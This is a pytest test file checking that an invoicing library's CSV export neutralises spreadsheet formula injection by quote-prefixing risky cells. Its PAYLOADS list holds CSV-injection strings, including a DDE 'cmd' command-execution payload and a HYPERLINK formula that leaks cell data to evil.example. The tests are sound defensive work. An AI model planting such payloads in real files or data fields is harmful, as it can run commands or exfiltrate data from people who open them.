"""CSV the library writes is safe to open in a spreadsheet (OWASP CSV injection).

Formula payloads go in through every text field of an invoice batch; in the CSV that comes
out, no cell may begin with ``=``, ``+``, ``-``, ``@``, tab or carriage return unless it is
one of the numbers the library computed (an amount may be negative).
"""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from childcare_commissioning.cli import main
from childcare_commissioning.csvsafe import FORMULA_PREFIXES, csv_text, safe_cell

PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
)
NUMERIC_COLUMNS = {"quantity", "unit_price", "amount"}


def test_safe_cell_by_hand() -> None:
    """OWASP: prefix a single quote; numbers the library computed stay numbers."""
    assert "'=1+1" == safe_cell("=1+1")
    assert "'-2+3" == safe_cell("-2+3")
    assert "'\t=1" == safe_cell("\t=1")
    assert "-13.87" == safe_cell(Decimal("-13.87"))
    assert "-3" == safe_cell(-3)
    assert "plain" == safe_cell("plain")
    assert "" == safe_cell(None)


@settings(max_examples=50, deadline=None)
@given(st.lists(st.lists(st.text(max_size=12), min_size=1, max_size=4), max_size=4))
def test_no_text_cell_can_start_a_formula(rows: list[list[str]]) -> None:
    """Whatever text goes in, no parsed cell starts with a formula character, and removing
    the quote prefix gives back the text (nothing lost)."""
    header = ["a", "b", "c", "d"]
    parsed = list(csv.reader(io.StringIO(csv_text(header, rows), newline="")))
    assert header == parsed[0]
    for row_in, row_out in zip(rows, parsed[1:], strict=True):
        for text, cell in zip(row_in, row_out, strict=False):
            assert not cell.startswith(FORMULA_PREFIXES)
            assert text == (cell[1:] if text.startswith(FORMULA_PREFIXES) else cell)


def _batch(payload: str) -> dict[str, object]:
    """A one-package batch with ``payload`` in every free-text field the input has."""
    return {
        "as_of": "2024-12-16",
        "packages": [
            {
                "id": payload,
                "council": "testshire",
                "child_id": payload,
                "start": "2024-12-02",
                "purchase_order": payload,
            }
        ],
        "quotations": [
            {
                "package_id": payload,
                "reference": payload,
                "rates": [{"amount": "18.50", "effective_from": "2024-12-02"}],
                "mileage_agreements": [{"id": payload, "agreed_on": "2024-11-29"}],
            }
        ],
        "planned": [{"id": payload, "package_id": payload, "date": "2024-12-03", "minutes": 180}],
        "records": [
            {
                "id": payload,
                "package_id": payload,
                "date": "2024-12-03",
                "start": "13:00",
                "end": "15:15",
                "planned_id": payload,
                "worker_id": payload,
                "miles": "23",
                "mileage_agreement": payload,
                "purchase_order": payload,
                "confirmed_by": payload,
            }
        ],
    }


@pytest.mark.parametrize("payload", PAYLOADS)
def test_invoice_csv_neutralises_formula_payloads(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], payload: str
) -> None:
    """The invoice CSV (commissioned, deduction and mileage lines: 3 rows) carries the
    payload only with its quote prefix; the --findings CSV too."""
    path = tmp_path / "batch.json"
    path.write_text(json.dumps(_batch(payload)), encoding="utf-8")
    findings = tmp_path / "findings.csv"
    argv = ["invoice", str(path), "--council", "testshire", "--format", "csv"]
    main([*argv, "--findings", str(findings)])
    out = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert 3 == len(rows)
    for row in rows:
        for column, cell in row.items():
            if cell.startswith(FORMULA_PREFIXES):
                assert column in NUMERIC_COLUMNS, (column, cell)
                Decimal(cell)  # a number the library computed, not text from the input
    assert "'" + payload == rows[0]["purchase_order"]
    assert "'" + payload == rows[0]["package"]
    for row in csv.reader(io.StringIO(findings.read_text(encoding="utf-8"), newline="")):
        assert not any(cell.startswith(FORMULA_PREFIXES) for cell in row)
